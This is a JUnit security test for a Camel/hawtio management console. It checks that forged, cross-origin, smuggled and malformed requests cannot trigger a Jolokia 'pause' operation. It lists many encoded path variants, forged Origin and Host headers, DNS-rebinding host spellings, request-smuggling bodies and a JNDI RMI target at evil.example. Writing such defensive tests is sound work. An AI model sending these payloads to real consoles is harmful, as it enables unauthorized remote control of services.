package io.tandem.console;

import static org.assertj.core.api.Assertions.assertThat;

import java.lang.management.ManagementFactory;
import java.nio.file.Path;
import java.util.Optional;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Stream;
import javax.management.ObjectName;
import javax.management.StandardMBean;
import org.apache.camel.main.Main;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What a page of another origin, a link, or a client without manners sends. None of it may pause a flow or read one. */
class HostileRequestsTest {

    /** Stands in for a flow. */
    public interface FlowMBean {
        String pause();
    }

    private static final AtomicInteger PAUSED = new AtomicInteger();
    private static final String BEAN = "io.tandem:type=Flow,name=hostile";
    private static final String EXEC = "{\"type\":\"exec\",\"mbean\":\"" + BEAN + "\",\"operation\":\"pause\"}";

    private static Console open;
    private static Console signedIn;

    @BeforeAll
    static void start(@TempDir Path folder) throws Exception {
        FlowMBean flow = () -> "Paused " + PAUSED.incrementAndGet();
        ManagementFactory.getPlatformMBeanServer()
                .registerMBean(new StandardMBean(flow, FlowMBean.class), new ObjectName(BEAN));
        open = Console.configure(new Main(), ConsoleSettings.onLoopback(0));
        signedIn = Console.configure(
                new Main(),
                new ConsoleSettings(
                        "127.0.0.1",
                        0,
                        CheapHash.accounts("olga", "long enough", folder),
                        false,
                        Optional.empty(),
                        true));
    }

    @AfterAll
    static void stop() throws Exception {
        open.close();
        signedIn.close();
        ManagementFactory.getPlatformMBeanServer().unregisterMBean(new ObjectName(BEAN));
    }

    private static Stream<String> requests() {
        return Stream.concat(calls(), Stream.concat(pages(), malformed()));
    }

    /** An operation, spelled in all ways. */
    private static Stream<String> calls() {
        String exec = BEAN + "/pause";
        return Stream.of(
                        "/hawtio/jolokia/exec/" + exec,
                        "/hawtio/jolokia/EXEC/" + exec,
                        "/hawtio/jolokia/Exec/" + exec,
                        "/hawtio/jolokia/%65xec/" + exec,
                        "/hawtio/jolokia/%45%58%45%43/" + exec,
                        "/hawtio/jolokia/e!xec/" + exec,
                        "/hawtio/jolokia;x/exec/" + exec,
                        "/hawtio/jolokia/exec;x/" + exec,
                        "/hawtio/jolokia;jsessionid=1/exec/" + exec,
                        "/hawtio/jolokia//exec/" + exec,
                        "//hawtio/jolokia/exec/" + exec,
                        "/hawtio//jolokia/exec/" + exec,
                        "/hawtio/./jolokia/exec/" + exec,
                        "/hawtio/x/../jolokia/exec/" + exec,
                        "/hawtio/x/%2e%2e/jolokia/exec/" + exec,
                        "/hawtio/jolokia%2Fexec/" + exec,
                        "/hawtio/jolokia/%2Fexec/" + exec,
                        "/hawtio/jolokia/version/../exec/" + exec,
                        "/hawtio/jolokiaexec/" + exec,
                        "/hawtio/jolokia-exec/" + exec,
                        "/hawtio/jolokiajolokia/exec/" + exec,
                        "/hawtio/Jolokia/exec/" + exec,
                        "/HAWTIO/JOLOKIA/EXEC/" + exec,
                        "/hawtio/%6aolokia/exec/" + exec,
                        "/hawtio/jolokia?p=exec/" + exec,
                        "/hawtio/jolokia/?p=EXEC/" + exec,
                        "/hawtio/jolokia/?maxDepth=1&p=exec/" + exec,
                        "/hawtio/jolokia/write/java.lang:type=Memory/Verbose/true",
                        "/hawtio/jolokia/WRITE/java.lang:type=Memory/Verbose/true",
                        "/hawtio/jolokia/notification/register",
                        "/hawtio/jolokia/NOTIFICATION/register",
                        "/hawtio/jolokia/config/debug/true",
                        "/hawtio/jolokia\\exec\\" + exec,
                        "/hawtio/jolokia/exec/" + exec + "%00",
                        "/hawtio/jolokia/exec/io.tandem:type=Flow,*/pause")
                .map(path -> "GET " + path + " HTTP/1.1\r\nHost: 127.0.0.1:PORT\r\nAUTHConnection: close\r\n\r\n");
    }

    /** A page elsewhere, with the browser's sign-in of this console. */
    private static Stream<String> pages() {
        return Stream.of(
                        "Origin: http://evil.example\r\nContent-Type: application/json\r\n",
                        "Origin: http://127.0.0.1:1\r\nContent-Type: application/json\r\n",
                        "Origin: https://127.0.0.1:PORT\r\nContent-Type: application/json\r\n",
                        "Origin: http://localhost:PORT\r\nContent-Type: application/json\r\n",
                        "Origin: null\r\nContent-Type: application/json\r\n",
                        "Origin: \r\nContent-Type: application/json\r\n",
                        "Origin: http://127.0.0.1:PORT\r\nOrigin: http://evil.example\r\nContent-Type: application/json\r\n",
                        "Origin: http://127.0.0.1:PORT.evil.example\r\nContent-Type: application/json\r\n",
                        "Origin: http://127.0.0.1:PORT@evil.example\r\nContent-Type: application/json\r\n",
                        "Sec-Fetch-Site: cross-site\r\nSec-Fetch-Mode: navigate\r\nContent-Type: application/json\r\n",
                        "Sec-Fetch-Site: same-site\r\nSec-Fetch-Mode: navigate\r\nContent-Type: application/json\r\n",
                        "Sec-Fetch-Site: same-site\r\nSec-Fetch-Mode: navigate\r\nSec-Fetch-Dest: document\r\nContent-Type: application/json\r\n",
                        "Sec-Fetch-Site: cross-site\r\nSec-Fetch-Mode: no-cors\r\nContent-Type: application/json\r\n",
                        "Content-Type: text/plain\r\n",
                        "Content-Type: application/x-www-form-urlencoded\r\n",
                        "Content-Type: multipart/form-data; boundary=application/json\r\n",
                        "Content-Type: text/plain; application/json\r\n",
                        "")
                .map(headers -> post("127.0.0.1:PORT", headers, EXEC));
    }

    private static Stream<String> malformed() {
        return Stream.of(
                post("evil.example:PORT", "Content-Type: application/json\r\n", EXEC),
                post("127.0.0.1.evil.example", "Content-Type: application/json\r\n", EXEC),
                post("127.0.0.1:PORT\r\nHost: evil.example", "Content-Type: application/json\r\n", EXEC),
                post("evil.example\r\nHost: 127.0.0.1:PORT", "Content-Type: application/json\r\n", EXEC),
                post("", "Content-Type: application/json\r\n", EXEC),
                post("127.0.0.1:PORT@evil.example", "Content-Type: application/json\r\n", EXEC),
                "POST http://evil.example/hawtio/jolokia HTTP/1.1\r\nHost: 127.0.0.1:PORT\r\nAUTHContent-Type: application/json\r\nContent-Length: "
                        + EXEC.length() + "\r\nConnection: close\r\n\r\n" + EXEC,
                "PUT /hawtio/jolokia HTTP/1.1\r\nHost: 127.0.0.1:PORT\r\nAUTHContent-Type: application/json\r\nContent-Length: "
                        + EXEC.length() + "\r\nConnection: close\r\n\r\n" + EXEC,
                "post /hawtio/jolokia HTTP/1.1\r\nHost: 127.0.0.1:PORT\r\nAUTHContent-Type: application/json\r\nContent-Length: "
                        + EXEC.length() + "\r\nConnection: close\r\n\r\n" + EXEC,
                // two lengths, and a length beside chunks: two readers would see two requests
                post("127.0.0.1:PORT", "Content-Length: 5\r\nContent-Type: application/json\r\n", EXEC),
                post("127.0.0.1:PORT", "Transfer-Encoding: chunked\r\nContent-Type: application/json\r\n", EXEC),
                post("127.0.0.1:PORT", "Content-Type: application/json\r\n", "[".repeat(100_000)),
                post("127.0.0.1:PORT", "Content-Type: application/json\r\n", "[" + "1,".repeat(100) + "1]"),
                post("127.0.0.1:PORT", "Content-Type: application/json\r\n", "null"),
                post("127.0.0.1:PORT", "Content-Type: application/json\r\n", "{\"type\":7}"),
                post("127.0.0.1:PORT", "Content-Type: application/json\r\n", "{\"type\":\"exec\"}"),
                post("127.0.0.1:PORT", "Content-Type: application/json\r\n", EXEC.replace("hostile", "*")),
                post("127.0.0.1:PORT", "Content-Type: application/json\r\n", EXEC.replace("io.tandem", "*")),
                post("127.0.0.1:PORT", "Content-Type: text/plain\r\n", EXEC.replace("exec", "EXEC")),
                post("127.0.0.1:PORT", "Content-Type: text/plain\r\n", "[{\"type\":\"version\"}," + EXEC + "]"),
                post(
                        "127.0.0.1:PORT",
                        "Content-Type: application/json\r\n",
                        "[" + (EXEC + ",").repeat(250) + EXEC + "]"),
                post(
                        "127.0.0.1:PORT",
                        "Content-Type: application/json\r\n",
                        EXEC.replace("{", "{\"target\":{\"url\":\"service:jmx:rmi:///jndi/rmi://evil.example/x\"},")),
                "GET /hawtio/jolokia/exec/" + BEAN + "/pause HTTP/0.9\r\n\r\n",
                "GET /hawtio/jolokia/exec/" + BEAN + "/pause HTTP/1.0\r\nAUTH\r\n");
    }

    private static String post(String host, String headers, String body) {
        return "POST /hawtio/jolokia HTTP/1.1\r\nHost: " + host + "\r\nAUTH" + headers + "Content-Length: "
                + body.length() + "\r\nConnection: close\r\n\r\n" + body;
    }

    @ParameterizedTest
    @MethodSource("requests")
    void pausesNoFlow_whoeverIsSignedIn(String request) throws Exception {
        for (Console console : new Console[] {open, signedIn}) {
            int before = PAUSED.get();
            String sent = request.replace("PORT", String.valueOf(console.url().getPort()))
                    .replace("AUTH", "Authorization: Basic b2xnYTpsb25nIGVub3VnaA==\r\n");
            String answer = Wire.send(console.url().getPort(), sent);

            assertThat(PAUSED.get()).as(sent + "\n" + answer).isEqualTo(before);
            assertThat(answer).as(sent).isNotEmpty().doesNotContain("Paused ");
            assertThat(Wire.status(answer)).as(answer).isNotEqualTo(500);
        }
    }

    /** Else nothing above would prove anything. */
    @Test
    void pausesAFlow_whenItsOwnPageAsks() throws Exception {
        String request =
                post("127.0.0.1:PORT", "Origin: http://127.0.0.1:PORT\r\nContent-Type: application/json\r\n", EXEC);
        for (Console console : new Console[] {open, signedIn}) {
            String sent = request.replace("PORT", String.valueOf(console.url().getPort()))
                    .replace("AUTH", "Authorization: Basic b2xnYTpsb25nIGVub3VnaA==\r\n");

            assertThat(Wire.send(console.url().getPort(), sent)).contains("Paused ");
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"/hawtio/auth/logout", "/hawtio/tandem/me", "/hawtio/user", "/observe/health", "/hawtio/jolokia"
            })
    void refusesANavigationFromElsewhere_exceptToAPage(String path) throws Exception {
        for (Console console : new Console[] {open, signedIn}) {
            assertThat(navigation(console, path)).isEqualTo(403);
            assertThat(navigation(console, "/hawtio/camel/routes")).isEqualTo(200);
        }
    }

    private static int navigation(Console console, String path) throws Exception {
        int port = console.url().getPort();
        return Wire.status(Wire.send(
                port,
                "GET " + path + " HTTP/1.1\r\nHost: 127.0.0.1:" + port + "\r\nSec-Fetch-Site: cross-site\r\n"
                        + "Sec-Fetch-Mode: navigate\r\nSec-Fetch-Dest: document\r\nConnection: close\r\n\r\n"));
    }

    /** Other spellings of this machine, and of names that end or begin with its own. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "localhost.",
                "127.1",
                "2130706433",
                "0x7f000001",
                "localhost.rebound.example",
                "127.0.0.1.nip.io",
                "rebound.example:PORT",
                "rebound.example#127.0.0.1",
                "127.0.0.1, rebound.example",
                "127.0.0.1 rebound.example",
                "127.0.0.1:PORT:PORT",
                "[::1].rebound.example",
                "[::1",
                "user@127.0.0.1",
                ":PORT",
                "%31%32%37.0.0.1",
                "１２７.0.0.1"
            })
    void answersUnderNoOtherSpelling(String host) throws Exception {
        for (Console console : new Console[] {open, signedIn}) {
            int port = console.url().getPort();
            for (String method : new String[] {"GET", "HEAD", "POST", "OPTIONS", "TRACE"}) {
                String answer = Wire.send(
                        port,
                        method + " /observe/health HTTP/1.1\r\nHost: " + host.replace("PORT", String.valueOf(port))
                                + "\r\nX-Forwarded-Host: 127.0.0.1\r\nForwarded: host=127.0.0.1\r\n"
                                + "Content-Length: 0\r\nConnection: close\r\n\r\n");

                assertThat(Wire.status(answer))
                        .as(method + " " + host + "\n" + answer)
                        .isIn(400, 403, 405, 501);
                assertThat(answer).doesNotContain("\"status\"");
            }
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"/observe/health", "/observe/metrics", "/hawtio/auth/login", "/hawtio/", "/hawtio/user"})
    void answersNobodyUnderAForeignName_signInOrNot(String path) throws Exception {
        for (Console console : new Console[] {open, signedIn}) {
            String answer = Wire.send(
                    console.url().getPort(),
                    "GET " + path + " HTTP/1.1\r\nHost: rebound.example\r\nConnection: close\r\n\r\n");

            assertThat(Wire.status(answer)).isEqualTo(403);
            assertThat(answer).contains("console.public-url");
        }
    }
}
